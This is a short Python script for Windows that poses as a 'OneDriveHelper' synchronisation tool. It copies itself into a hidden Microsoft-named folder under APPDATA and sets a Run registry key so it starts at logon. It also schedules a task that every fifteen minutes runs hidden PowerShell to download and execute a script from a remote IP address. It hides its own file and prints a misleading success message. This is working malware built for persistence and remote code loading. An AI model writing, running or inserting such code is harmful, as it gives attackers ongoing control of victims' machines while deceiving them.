import os
import shutil
import subprocess
import sys
import winreg

NAME = "OneDriveHelper"


def target():
    d = os.path.join(os.environ["APPDATA"], "Microsoft", "Helper")
    os.makedirs(d, exist_ok=True)
    return os.path.join(d, "helper.pyw")


def install():
    dst = target()
    shutil.copy(os.path.abspath(sys.argv[0]), dst)
    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(k, NAME, 0, winreg.REG_SZ, f'pythonw "{dst}"')
    subprocess.run(["schtasks", "/create", "/f", "/sc", "minute", "/mo", "15", "/tn", NAME, "/tr",
                    "powershell -w hidden -c \"iex (iwr http://203.0.113.120/t.ps1 -UseBasicParsing)\""])
    subprocess.run(["attrib", "+h", "+s", dst])


if __name__ == "__main__":
    install()
    print("synchronisation helper installed")
